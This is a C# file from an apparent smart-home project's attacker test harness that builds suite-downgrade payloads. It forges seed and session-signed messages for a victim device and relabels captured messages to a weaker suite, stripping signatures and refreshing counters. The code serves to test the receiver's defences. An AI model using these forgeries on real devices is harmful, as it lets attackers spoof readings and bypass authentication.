using System.Buffers.Binary;
using System.Security.Cryptography;
using NSec.Cryptography;
using SmartHome.Security;

namespace SmartHome.Attacker;

/// <summary>
/// The messages of the suite-downgrade attack, built from explicit inputs so tests can judge them against a real receiver:
/// a forgery in the weakest v1 suite (seed: no forward secrecy), a forgery in session-signed (no per-message signature),
/// and captured messages rewritten to claim another suite.
/// </summary>
internal static class SuiteDowngradePayloads
{
    /// <summary>What the attempt's messages try, for notes and tests.</summary>
    public enum Variant
    {
        /// <summary>v1 (seed) data for the victim, signed with the level's DSA key, under a key id the victim never announced.</summary>
        SeedForgery,
        /// <summary>A session-signed announcement for the victim (level's Ed25519 key, agreed with the actuator's X25519 key), then data under it.</summary>
        SessionSignedForgery,
        /// <summary>A captured message with its suite rewritten to a weaker one (and its signature dropped where the new suite has none).</summary>
        RelabelledCapture,
    }

    /// <summary>Seed data for <paramref name="victim"/>: the v1 envelope the seed receiver would take from the victim's own DSA key.</summary>
    public static byte[] SeedForgery(string victim, ulong counter, long nowMs, byte[] reading, DSA levelKey) =>
        EnvelopeForge.Data(victim, ForgeryValues.RandomKeyId(), counter, nowMs, RandomNumberGenerator.GetBytes(4), RandomNumberGenerator.GetBytes(32),
            reading, levelKey, SmartHome.Messaging.Topics.Readings(victim));

    /// <summary>
    /// A session-signed announcement for <paramref name="victim"/> and data under its key: were the announcement accepted,
    /// the data's GCM tag would be valid (the attacker derived the same key), so only the suite rule and the signature stand
    /// in the way.
    /// </summary>
    public static (byte[] Announcement, byte[] Data) SessionSignedForgery(string victim, ulong counter, long nowMs, byte[] reading, Key levelKey,
        PublicKey actuatorAgreementKey)
    {
        byte[] id = System.Text.Encoding.ASCII.GetBytes(victim);
        uint keyId = ForgeryValues.RandomKeyId();
        Span<byte> derived = stackalloc byte[SuiteFormat.DerivedSize];
        using var ephemeral = Key.Create(SuiteFormat.Agreement);
        byte[] announcement = SuiteMessages.Announcement(CryptoSuite.SessionSigned, id, keyId, counter, nowMs, SuiteFormat.Fingerprint(actuatorAgreementKey),
            ephemeral, actuatorAgreementKey, levelKey, SmartHome.Messaging.Topics.Keys(victim), derived);
        using var aes = new AesGcm(derived[..EnvelopeFormat.SessionKeySize], EnvelopeFormat.TagSize);
        Span<byte> binding = stackalloc byte[EnvelopeFormat.MaxTopicLength + 2];
        int n = Binding(SmartHome.Messaging.Topics.Readings(victim), binding);
        byte[] data = SuiteMessages.Data(CryptoSuite.SessionSigned, id, keyId, counter + 1, nowMs, aes, derived[EnvelopeFormat.SessionKeySize..],
            reading, binding[..n], signingKey: null);
        CryptographicOperations.ZeroMemory(derived);
        return (announcement, data);
    }

    /// <summary>
    /// A captured message claiming another suite, with a fresh counter and timestamp (so neither the replay window nor the
    /// freshness check is what stops it): v2 modern data becomes session-signed without its signature; a v2 announcement
    /// flips between modern and session-signed; a v1 (seed) data message becomes v2 session-signed without its DSA
    /// signature. Null for anything else.
    /// </summary>
    public static byte[]? Relabel(ReadOnlySpan<byte> captured, ulong freshCounter, long nowMs)
    {
        if (captured.Length < 4)
        {
            return null;
        }
        if (captured[0] == SuiteFormat.Version && captured[2] is (byte)CryptoSuite.Modern or (byte)CryptoSuite.SessionSigned)
        {
            int idLen = captured[3];
            bool data = captured[1] == (byte)EnvelopeType.Data;
            bool stripSignature = data && captured[2] == (byte)CryptoSuite.Modern;
            if (captured.Length < SuiteFormat.FixedHeaderSize + idLen + (stripSignature ? SuiteFormat.SignatureSize : 0))
            {
                return null;
            }
            byte[] copy = stripSignature ? captured[..^SuiteFormat.SignatureSize].ToArray() : captured.ToArray();
            copy[2] = captured[2] == (byte)CryptoSuite.Modern ? (byte)CryptoSuite.SessionSigned : (byte)CryptoSuite.Modern;
            BinaryPrimitives.WriteUInt64BigEndian(copy.AsSpan(8 + idLen), freshCounter);
            BinaryPrimitives.WriteInt64BigEndian(copy.AsSpan(16 + idLen), nowMs);
            return copy;
        }
        if (captured[0] == EnvelopeFormat.Version && captured[1] == (byte)EnvelopeType.Data)
        {
            int idLen = captured[2];
            int h1 = 23 + idLen; // v1 header: 23 + L (docs/PROTOCOL.md)
            if (captured.Length < h1 + 2 + EnvelopeFormat.TagSize + EnvelopeFormat.SignatureSize)
            {
                return null;
            }
            // v1 header + body without the DSA signature, with the suite byte inserted after the type.
            ReadOnlySpan<byte> unsigned = captured[..^EnvelopeFormat.SignatureSize];
            byte[] copy = new byte[unsigned.Length + 1];
            copy[0] = SuiteFormat.Version;
            copy[1] = (byte)EnvelopeType.Data;
            copy[2] = (byte)CryptoSuite.SessionSigned;
            unsigned[2..].CopyTo(copy.AsSpan(3));
            BinaryPrimitives.WriteUInt64BigEndian(copy.AsSpan(8 + idLen), freshCounter);
            BinaryPrimitives.WriteInt64BigEndian(copy.AsSpan(16 + idLen), nowMs);
            return copy;
        }
        return null;
    }

    private static int Binding(string topic, Span<byte> destination)
    {
        int n = System.Text.Encoding.UTF8.GetBytes(topic, destination[2..]);
        BinaryPrimitives.WriteUInt16BigEndian(destination, (ushort)n);
        return n + 2;
    }
}
